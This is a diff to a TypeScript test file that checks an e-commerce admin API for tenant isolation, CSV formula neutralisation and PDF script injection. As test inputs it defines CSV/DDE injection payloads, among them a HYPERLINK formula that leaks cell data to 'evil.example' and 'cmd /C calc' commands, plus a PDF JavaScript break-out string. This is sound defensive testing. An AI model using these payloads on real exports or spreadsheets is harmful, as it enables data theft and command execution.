@@ -6,17 +6,18 @@ import { BANK_TRANSFER, demoCatalog, placeOrder } from './shop'
 // the admin API's checks over GET: another store's or partner's work order is the same 404 as a
 // missing one, an export holds only the member's stores, a cell a spreadsheet would run as a
 // formula is neutralised, and a sheet carries no script or action. The routes are read from the
-// app's folders; on a branch without them these tests are skipped.
+// app's folders: a route missing there fails its test (it is never skipped).
 
 const SHEET = (id: number | string) => `/api/admin/work-orders/${id}/sheet.pdf`
 const ORDERS_CSV = '/api/admin/exports/orders.csv'
-const hasRoute = (route: string) => adminGetRoutes().includes(route)
+/** Fails the test when the app has no such GET route (a renamed or removed download is a defect, not a skip). */
+const expectRoute = (route: string) => expect(adminGetRoutes(), `the app has no ${route} route`).toContain(route)
 const MISSING = 99_999_999
 const PDF_BREAKOUT = ') /S /JavaScript /JS (app.alert(1)'
 const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0']
 
 test('a production sheet of another partner’s or another store’s work order is the same 404 as a missing one', async ({ consoleAs }) => {
-  test.skip(!hasRoute(SHEET(1)), 'no production sheet route on this branch')
+  expectRoute(SHEET(1))
   const f = consoleFixtures()
   const partner = await consoleAs('partner')
   const get = (member: typeof partner, id: number) => member.caller.get(SHEET(id), { bearer: null, headers: { cookie: `admin_session=${member.token}` } })
@@ -38,7 +39,7 @@ test('a production sheet of another partner’s or another store’s work order 
 })
 
 test('an export holds only the member’s stores, neutralises formula cells, and a sheet of script-laden text carries no script', async ({ attack, consoleAs }) => {
-  test.skip(!hasRoute(ORDERS_CSV), 'no CSV export route on this branch')
+  expectRoute(ORDERS_CSV)
   const f = consoleFixtures()
   // A guest whose name is a formula, confirmed by bank transfer; the wire's reference a formula too.
   const guest = await attack.caller('console-csv-guest')
@@ -67,7 +68,7 @@ test('an export holds only the member’s stores, neutralises formula cells, and
   }
 
   // The sheet of the guest's work order: the address's PDF break-out drawn as text, no script, no action.
-  if (hasRoute(SHEET(1))) {
+  {
     const { workOrders } = (await manager.query('orderWorkOrders', { orderId: order.id })).json.data as { workOrders: { id: number }[] }
     const bytes = await fetch(`${attack.baseURL}${SHEET(workOrders[0]!.id)}`, { headers: { cookie: `admin_session=${manager.token}` } })
     expect(bytes.status).toBe(200)
@@ -80,7 +81,7 @@ const STORE_FILE_EXPORT = '/api/admin/store-file/export'
 const STORE_FILE_IMPORT = '/api/admin/store-file/import'
 
 test('the store file opens to its store’s managers only: fulfilment 403, another store’s manager 404, no session 401', async ({ attack, consoleAs }) => {
-  test.skip(!hasRoute(STORE_FILE_EXPORT), 'no store file route on this branch')
+  expectRoute(STORE_FILE_EXPORT)
   const f = consoleFixtures()
   const exportOf = (websiteId: number) => `${STORE_FILE_EXPORT}?websiteId=${websiteId}`
   const importInto = (websiteId: number) => `${STORE_FILE_IMPORT}?websiteId=${websiteId}&dryRun=1&name=store.json`
